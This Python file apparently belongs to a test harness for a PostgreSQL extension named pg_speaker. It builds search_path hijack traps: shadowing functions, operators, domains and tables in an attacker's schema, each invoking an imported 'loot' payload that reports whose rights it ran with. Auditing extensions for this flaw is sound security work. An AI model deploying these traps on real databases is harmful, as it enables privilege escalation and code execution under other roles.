"""Objects that take the place of PostgreSQL's where a name is looked up carelessly, and tell whose rights they got: functions,
operators, types and tables with the names that the store and the extension use."""

import re

import psycopg

from attempts import loot

# Types of the operands for which operators are trapped.
OPERANDS = ("text", "name", "int4", "int8", "float8", "bytea", "oid", "timestamptz", "interval", "bool", "jsonb", "char", "_text", "_int8")
DOMAINS = ("text", "name", "bytea", "jsonb", "oid", "float8", "float4", "int4", "int8", "timestamptz", "regclass", "regtype", "regprocedure", "uuid")
CATALOGUE = ("pg_class", "pg_proc", "pg_namespace", "pg_roles", "pg_extension", "pg_attribute", "pg_index", "pg_trigger", "pg_policy", "pg_type")

USED = """
SELECT p.prosrc FROM pg_proc AS p WHERE p.pronamespace = 'speaker'::regnamespace
UNION ALL
SELECT p.prosrc FROM pg_proc AS p JOIN pg_depend AS d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
JOIN pg_extension AS e ON e.oid = d.refobjid WHERE e.extname = 'pg_speaker'
UNION ALL
SELECT speaker_store_definitions()
"""
CANDIDATES = """
SELECT p.proname, pg_get_function_identity_arguments(p.oid), pg_get_function_result(p.oid)
FROM pg_proc AS p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind IN ('f', 'a') AND p.proname = ANY (%s)
  AND NOT p.proargtypes::oid[] && ARRAY['internal'::regtype, 'cstring'::regtype, '"any"'::regtype]::oid[]
  AND p.prorettype NOT IN ('internal'::regtype, 'cstring'::regtype) AND p.proallargtypes IS NULL ORDER BY 1, 2
"""
OPERATORS = """
SELECT o.oprname, format_type(o.oprleft, NULL), format_type(o.oprright, NULL), format_type(o.oprresult, NULL), p.proname
FROM pg_operator AS o JOIN pg_proc AS p ON p.oid = o.oprcode JOIN pg_type AS l ON l.oid = o.oprleft JOIN pg_type AS r ON r.oid = o.oprright
WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND l.typname = ANY (%s) AND r.typname = ANY (%s)
  AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '+', '-', '*', '/', '~', '->>', '^')
"""
# What is called with arguments of any kinds, and what is called with literals, has no exact match to compete with.
BETTER = {
    "format": ("text, text", "text, text, text", "text, bigint", "text, name", "text, int", "text, text, int"),
    "num_nonnulls": ("bytea, oid, text", "bigint, text, text", "oid, text"),
    "jsonb_build_object": ("text, int, text, int",), "concat": ("text, text",), "jsonb_build_array": ("text, text, text",),
    "count": ("bigint", "text"), "to_regclass": ("unknown", "varchar"), "set_config": ("text, text, bool",),
    "current_setting": ("varchar",), "pg_extension_config_dump": ("text, text",), "quote_ident": ("name",),
}


def make(connection, statement):
    """Whether it could be made: what cannot is no trap."""
    try:
        connection.execute(statement)
    except psycopg.Error:
        return 0
    return 1


def function(schema, name, arguments, result, attacker):
    answer = "RETURN" if result.startswith("SETOF") or result == "void" else "RETURN NULL"
    return (f'CREATE FUNCTION {schema}."{name}"({arguments}) RETURNS {result} LANGUAGE plpgsql AS '
            f"$trap$BEGIN {loot(attacker)} {answer}; END$trap$")


def trap(connection, schema, attacker):
    """Fills a schema of the attacker's; the answer is how many traps there are."""
    words = {word for (source,) in connection.execute(USED) for word in re.findall(r"(\w+)\(", source)}
    made = 0
    for name, arguments, result in connection.execute(CANDIDATES, [sorted(words)]).fetchall():
        made += make(connection, function(schema, name, arguments, result, attacker))
    for name, variants in BETTER.items():
        for arguments in variants:
            made += make(connection, function(schema, name, arguments, "text", attacker))
    for name, left, right, result, code in connection.execute(OPERATORS, [list(OPERANDS)] * 2).fetchall():
        make(connection, function(schema, f"trap_{code}", f"a {left}, b {right}", result, attacker))
        made += make(connection, f'CREATE OPERATOR {schema}.{name} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {schema}."trap_{code}")')
    connection.execute(f"CREATE FUNCTION {schema}.springs() RETURNS boolean LANGUAGE plpgsql AS $$BEGIN {loot(attacker)} RETURN true; END$$")
    for name in DOMAINS:
        made += make(connection, f'CREATE DOMAIN {schema}."{name}" AS pg_catalog."{name}" CHECK ({schema}.springs())')
    return made + tables(connection, schema)


def tables(connection, schema):
    """Tables with the names of the store's and of the catalog's; their columns are as those have them."""
    names = [name for (name,) in connection.execute(
        "SELECT relname FROM pg_class WHERE relnamespace = 'speaker'::regnamespace AND relkind IN ('r', 'v')")]
    return (sum(make(connection, f"CREATE TABLE {schema}.{name} AS SELECT * FROM speaker.{name} WHERE false") for name in names)
            + sum(make(connection, f"CREATE TABLE {schema}.{name} AS SELECT * FROM pg_catalog.{name} WHERE false") for name in CATALOGUE))
